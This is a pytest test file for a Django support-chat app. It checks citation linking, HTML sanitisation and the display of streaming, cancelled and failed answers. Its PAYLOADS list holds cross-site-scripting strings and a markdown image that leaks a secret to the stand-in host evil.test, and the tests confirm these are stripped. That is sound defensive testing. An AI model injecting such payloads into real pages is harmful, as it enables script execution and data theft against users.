"""How a turn is shown: cited, sanitised, as far as it came."""

import json
import uuid

import pytest
from asgiref.sync import async_to_sync
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st

from supportapp.conversations import presenting, turns
from supportapp.conversations.models import Conversation, Turn
from supportapp.conversations.presenting import Progress
from supportapp.conversations.running import Running, run

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/?q=secret)",
    "[click](javascript:alert(1))",
    "<a href='data:text/html,x'>x</a>",
    '[x](https://a.test "[1] onmouseover=alert(1) ")',
    "<svg onload=alert(1)>",
    "`[1]<script>`",
]


@pytest.fixture
def answered(talk: Conversation) -> Turn:
    turn = turns.open(talk, "Are yearly plans refunded?", uuid.uuid4())
    async_to_sync(run)(Running(turn.pk))
    return Turn.objects.get(pk=turn.pk)


def test_markers_become_links_to_their_sources(answered: Turn) -> None:
    view = presenting.view(answered)
    assert f'href="/t/{answered.pk}/sources/1/" data-number="1"' in view.answer_html
    assert "[1]" not in view.answer_html
    assert view.citations[0].article_url.startswith("/help/refund-policy/?passage=")


def test_a_marker_without_a_citation_is_not_shown(answered: Turn) -> None:
    answered.answer = "Yes [1]. No [7]."
    html = presenting.view(answered).answer_html
    assert "[7]" not in html
    assert html.count('class="citation"') == 1


def test_a_marker_in_code_stays_as_it_is(answered: Turn) -> None:
    answered.answer = "Use `list[1]` [1]"
    assert "<code>list[1]</code>" in presenting.view(answered).answer_html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_passes(answered: Turn, payload: str) -> None:
    answered.answer = f"{payload} [1]"
    html = presenting.view(answered).answer_html.lower()
    assert "<script" not in html
    assert "<img" not in html
    assert "<svg" not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html
    assert "onerror=" not in html.replace("&lt;", "")
    assert " onmouseover" not in html.split(">")[0]


def test_a_question_is_escaped(answered: Turn) -> None:
    answered.question = "<script>alert(1)</script>"
    html = presenting.turn_html(answered, RequestFactory().get("/"))
    assert "<script>alert" not in html


def test_a_running_turn_shows_its_text_as_text(answered: Turn) -> None:
    answered.state = Turn.State.STREAMING
    view = presenting.view(answered, progress=Progress("**so** <b>far", 5))
    assert (view.partial_text, view.seq, view.answer_html) == ("**so** <b>far", 5, "")
    html = presenting.turn_html(answered, None, progress=Progress("**so** <b>far", 5))
    assert "**so** &lt;b&gt;far" in html
    assert 'data-seq="5"' in html


def test_a_stopped_turn_shows_how_far_it_came(answered: Turn) -> None:
    answered.state = Turn.State.CANCELLED
    answered.answer = "Half of"
    view = presenting.view(answered)
    assert view.is_partial
    assert "Half of" in view.answer_html


def test_an_answer_that_broke_off_shows_no_marks_that_it_never_ended(answered: Turn) -> None:
    answered.state = Turn.State.FAILED
    answered.answer = "**Yearly** plans are refunded.\n\n1. To cancel, open **Settings > Bil"
    html = presenting.view(answered).answer_html
    assert "<strong>Yearly</strong>" in html
    assert "open Settings &gt; Bil" in html
    assert "**" not in html


def test_a_failed_turn_offers_a_person(answered: Turn) -> None:
    answered.state, answered.answer = Turn.State.FAILED, ""
    assert presenting.view(answered).offer_person


def test_a_partial_over_a_socket_has_the_browsers_csrf_token(answered: Turn) -> None:
    scope = {"headers": [(b"cookie", b"csrf=" + b"a" * 32)], "path": "/ws/"}
    html = presenting.turn_html(answered, scope)
    assert "csrfmiddlewaretoken" in html


@given(st.text(max_size=80))
def test_linking_changes_nothing_but_markers(text: str) -> None:
    linker = presenting._MarkerLinker({})
    source = f"<p>{json.dumps(text).replace('<', '').replace('[', '').replace('&', '')}</p>"
    linker.feed(source)
    linker.close()
    assert "".join(linker.parts) == source
